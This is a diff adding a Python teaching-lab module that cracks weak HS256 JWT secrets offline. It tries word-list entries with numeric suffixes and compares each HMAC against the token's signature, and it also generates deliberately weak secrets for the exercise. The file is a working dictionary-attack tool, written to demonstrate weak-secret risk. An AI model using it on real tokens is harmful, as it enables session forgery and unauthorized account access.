@@ -1,0 +1,90 @@
+"""Lab 04a: guessing a weak HS256 secret offline from one token, with a word list and numeric suffixes.
+
+The word list ships in data/ (``data/make_wordlist.py`` writes it); nothing is downloaded.
+"""
+
+from __future__ import annotations
+
+import hmac
+import random
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+from sessionlab.web.tokens import (
+    split_token,
+)
+
+WORDLIST = Path(__file__).resolve().parents[3] / "data" / "jwt_secrets_wordlist.txt"
+
+
+# Mangling rules, as password crackers apply them: the word, then the word + 0..99.
+SUFFIXES = ("",) + tuple(str(n) for n in range(100))
+
+
+def load_wordlist(path: str | Path | None = None) -> list[str]:
+    text = Path(path or WORDLIST).read_text(encoding="utf-8")
+    return [w for w in (line.strip() for line in text.splitlines()) if w and not w.startswith("#")]
+
+
+def candidate_count(words, suffixes=SUFFIXES) -> int:
+    return len(words) * len(suffixes)
+
+
+def weak_secret(words, rng: random.Random | None = None) -> str:
+    """A weak secret as people pick them: a list word plus a two-digit number (from the list's back half)."""
+    rng = rng or random.SystemRandom()
+    word = rng.choice(words[len(words) // 2 :])
+    return f"{word}{rng.randint(10, 99)}"
+
+
+@dataclass
+class CrackResult:
+    secret: str | None
+    tried: int
+    total: int
+    seconds: float
+
+    @property
+    def found(self) -> bool:
+        return self.secret is not None
+
+    def __repr__(self) -> str:
+        what = "비밀 키를 찾았습니다" if self.found else "비밀 키를 찾지 못했습니다"
+        return f"<CrackResult {what}: 후보 {self.tried:,}/{self.total:,}개 시도>"
+
+
+def crack_hs256(token: str, words, suffixes=SUFFIXES, progress: bool = True) -> CrackResult:
+    """Offline dictionary attack on an HS256 token: HMAC every candidate, compare with the signature.
+
+    Offline means no server sees the attempts: no rate limit, no lockout helps.
+    """
+    header, _payload, signature = split_token(token)
+    if header.get("alg") != "HS256":
+        raise ValueError("HS256 토큰만 이 방법으로 깰 수 있습니다.")
+    signing_input = token.rsplit(".", 1)[0].encode("ascii")
+    total = candidate_count(words, suffixes)
+    bar = None
+    if progress:
+        from tqdm.auto import tqdm
+
+        bar = tqdm(total=total, unit="후보", unit_scale=True, desc="사전 공격", mininterval=0.25)
+    tried, start, found = 0, time.perf_counter(), None
+    digest = hmac.digest
+    try:
+        for word in words:
+            for suffix in suffixes:
+                candidate = (word + suffix).encode("utf-8")
+                if digest(candidate, signing_input, "sha256") == signature:
+                    found = word + suffix
+                    tried += 1
+                    break
+                tried += 1
+            if bar is not None:
+                bar.update(len(suffixes))
+            if found is not None:
+                break
+    finally:
+        if bar is not None:
+            bar.close()
+    return CrackResult(found, tried, total, time.perf_counter() - start)
